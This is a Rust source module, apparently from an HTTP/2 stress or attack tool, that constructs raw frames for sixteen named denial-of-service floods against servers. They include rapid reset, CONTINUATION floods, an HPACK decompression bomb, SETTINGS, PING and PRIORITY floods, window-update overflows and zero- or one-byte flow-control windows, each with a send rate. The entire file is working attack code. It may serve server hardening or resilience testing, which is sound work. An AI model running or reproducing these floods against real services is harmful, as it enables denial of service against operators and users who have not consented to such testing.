//! Floods of HTTP/2: what a client says once, and then over and over, to cost a server more than it costs itself.

use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, Field, GET, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, frame, literals,
};

/// A flood of one kind. It may ask for `/p` and `/1000000`, a page of about so many bytes.
pub struct Flood {
    pub name: &'static str,
    /// The payload of its SETTINGS.
    pub settings: Vec<u8>,
    pub first: Vec<u8>,
    /// By a number that begins with 1 and grows by 2: streams, mostly.
    pub says: Box<dyn Fn(u32) -> Vec<u8> + Send + Sync>,
    /// How often a second, to be an attack and leave its own machine time for others.
    pub pace: u32,
}

impl Flood {
    fn new(name: &'static str, says: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static) -> Flood {
        Flood {
            name,
            settings: Vec::new(),
            first: Vec::new(),
            says: Box::new(says),
            pace: 5_000,
        }
    }

    fn after(self, first: Vec<u8>) -> Flood {
        Flood { first, ..self }
    }

    /// Says it has so much room for each answer.
    fn window(self, room: u32) -> Flood {
        Flood {
            settings: initial_window(room),
            ..self
        }
    }

    fn heavy(self) -> Flood {
        Flood { pace: 200, ..self }
    }
}

pub fn floods() -> Vec<Flood> {
    let whole = END_STREAM | END_HEADERS;
    let get = |stream: u32, flags: u8| frame(HEADERS, flags, stream, &literals(&GET));
    let reset = |stream: u32| frame(RST_STREAM, 0, stream, &8u32.to_be_bytes());
    let wider = |stream: u32, by: u32| frame(WINDOW_UPDATE, 0, stream, &by.to_be_bytes());
    let crumb = literals(&[(b"cookie", b"a=b")]);
    let crumbs = crumb.repeat(1000);
    let many = [literals(&GET), crumbs.clone()].concat();
    let large = literals(&GET.map(|field: Field| match field.0 {
        b":path" => (field.0, b"/1000000".as_slice()),
        _ => field,
    }));
    let large_page = frame(HEADERS, whole, 1, &large);
    let full = [literals(&GET), entry(), vec![NEWEST; 12_000]].concat();
    let kept = [literals(&GET), entry()].concat();
    let within = [literals(&GET), vec![NEWEST; 7]].concat();
    vec![
        Flood::new("rapid reset", move |n| [get(n, whole), reset(n)].concat()),
        Flood::new("made to reset", move |n| {
            [get(n, END_HEADERS), wider(n, 0)].concat()
        }),
        Flood::new("continuation", move |_| frame(CONTINUATION, 0, 1, &crumbs))
            .after(get(1, END_STREAM))
            .heavy(),
        Flood::new("settings", |_| {
            frame(SETTINGS, 0, 0, &initial_window(65_535))
        }),
        Flood::new("ping", |_| frame(PING, 0, 0, b"pingpong")),
        Flood::new("priority", |n| frame(PRIORITY, 0, n, &[0, 0, 0, 0, 16])),
        Flood::new("empty data", |_| frame(DATA, 0, 1, &[])).after(get(1, END_HEADERS)),
        Flood::new("streams", move |n| get(n, END_HEADERS)),
        Flood::new("cookie crumbs", move |n| frame(HEADERS, whole, n, &many)).heavy(),
        // 16 KB that stand for 48 MB, and 70 bytes that stand for as much as a head may be.
        Flood::new("HPACK bomb", move |n| frame(HEADERS, whole, n, &full))
            .window(0)
            .heavy(),
        Flood::new("HPACK bomb within the limits", move |n| {
            frame(HEADERS, whole, n + 2, &within)
        })
        .after(frame(HEADERS, whole, 1, &kept))
        .window(0),
        Flood::new("window of the connection overflows", move |_| {
            wider(0, u32::MAX >> 1)
        }),
        Flood::new("windows of streams overflow", move |n| {
            [get(n, whole), wider(n, u32::MAX >> 1)].concat()
        }),
        Flood::new("nothing is taken", move |n| {
            frame(HEADERS, whole, n, &large)
        })
        .window(0),
        Flood::new("windows flap", |n| {
            let room = if n % 4 == 1 { 65_535 } else { 0 };
            frame(SETTINGS, 0, 0, &initial_window(room))
        })
        .after(large_page.clone())
        .window(0),
        Flood::new("windows of one byte", move |_| {
            [wider(1, 1), wider(0, 1)].concat()
        })
        .after(large_page)
        .window(1),
    ]
}

fn initial_window(room: u32) -> Vec<u8> {
    [&[0, 4], &room.to_be_bytes()[..]].concat()
}

/// The newest field of the dynamic table (RFC 7541 §6.1).
const NEWEST: u8 = 0x80 | 62;

/// A field that nearly fills the table of 4096 bytes, and stays there (RFC 7541 §6.2.1).
fn entry() -> Vec<u8> {
    const LEN: usize = 4000;
    let mut block = vec![0x40, 1, b'x', 0x7f];
    let rest = LEN - 127;
    block.extend([rest as u8 & 0x7f | 0x80, (rest >> 7) as u8]);
    block.resize(block.len() + LEN, b'a');
    block
}
